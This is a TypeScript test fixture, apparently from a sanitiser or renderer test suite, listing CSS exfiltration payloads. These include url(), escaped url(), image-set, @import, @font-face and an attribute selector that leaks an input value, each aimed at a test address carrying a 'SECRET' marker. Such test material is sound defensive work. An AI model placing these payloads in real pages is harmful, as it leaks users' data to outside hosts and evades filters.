import type { Payload } from '../payload.ts';
import { act, html, pressed } from './shownMarkup.ts';

const styled = (
	id: string,
	channel: string,
	value: (address: string) => string,
	rest: Partial<Payload> = {}
) =>
	html(
		id,
		channel,
		({ http }) =>
			`<p style="--plot-background: red; ${value(`${http}?SECRET`)}; width: 9px; height: 9px">x</p>`,
		rest
	);

const sheet = (id: string, channel: string, css: (address: string) => string, body = '<p class="x">x</p>') =>
	html(id, channel, ({ http }) => `<style>${css(`${http}x.css?SECRET`)}</style>${body}`);

/** What a browser would fetch for an author's styles. */
export const outputStyles: readonly Payload[] = [
	styled('css-url', 'CSS url()', (address) => `background: url(${address})`),
	styled('css-escape', 'CSS url()', (address) => `background: u\\72 l(${address})`),
	styled('css-escape-crlf', 'CSS url()', (address) => `background: u\\72&#13;&#10;l(${address})`),
	styled(
		'css-comment-in-string',
		'CSS url()',
		(address) => `background: var(--plot-background, &quot;/*&quot;) url(${address})`
	),
	styled(
		'css-comment-in-comment',
		'CSS url()',
		(address) => `background: var(--plot-background, '//**/*') url(${address})`
	),
	styled('css-variable', 'CSS custom property', (address) => `--x: url(${address}); background: var(--x)`),
	styled(
		'css-plot-background',
		'CSS custom property',
		(address) => `--plot-background: url(${address}); background: var(--plot-background)`
	),
	styled('css-image-set', 'CSS image-set()', (address) => `background: image-set('${address}' 1x)`),
	styled(
		'css-webkit-image-set',
		'CSS image-set()',
		(address) => `background: -webkit-image-set(url(${address}) 1x)`
	),
	styled(
		'css-cross-fade',
		'CSS cross-fade()',
		(address) => `background: -webkit-cross-fade(url(${address}), url(${address}), 50%)`,
		{ without: ['firefox'] }
	),
	styled('css-list-style', 'CSS list-style', (address) => `display: list-item; list-style: url(${address})`),
	styled(
		'css-border-image',
		'CSS border-image',
		(address) => `border: 3px solid; border-image: url(${address}) 1`
	),
	styled('css-mask', 'CSS mask', (address) => `mask: url(${address})`),
	styled('css-filter', 'CSS filter', (address) => `filter: url(${address}#a)`, {
		control: { kind: 'none', why: 'A filter is taken from its own origin alone: other hosts are not asked.' }
	}),
	styled('css-clip-path', 'CSS clip-path', (address) => `clip-path: url(${address}#a)`, {
		without: ['firefox']
	}),
	styled(
		'css-shape-outside',
		'CSS shape-outside',
		(address) => `float: left; shape-outside: url(${address})`
	),
	html(
		'css-cursor',
		'CSS cursor',
		({ http }) => `<button style="cursor: url(${http}?SECRET), auto; position: fixed; inset: 0">x</button>`,
		pressed('button')
	),
	sheet('sheet-import', '@import', (address) => `@import url(${address});`),
	sheet('sheet-import-text', '@import', (address) => `@import '${address}';`),
	sheet(
		'sheet-font-face',
		'@font-face',
		(address) => `@font-face { font-family: x; src: url(${address}) } .x { font-family: x }`
	),
	sheet('sheet-content', 'CSS content', (address) => `.x::before { content: url(${address}) }`),
	sheet(
		'sheet-attribute-selector',
		'CSS attribute selector',
		(address) => `input[value^="H"] { background: url(${address}) }`,
		'<input value="SECRET">'
	),
	sheet(
		'sheet-page',
		'CSS url()',
		(address) => `body, main, .html { background: url(${address}) !important }`
	),
	html(
		'sheet-animation',
		'CSS animation event',
		(at) =>
			`<style>@keyframes x { to { opacity: 0 } }</style><p style="animation: x 1ms" onanimationend="${act(at)}">x</p>`
	)
];
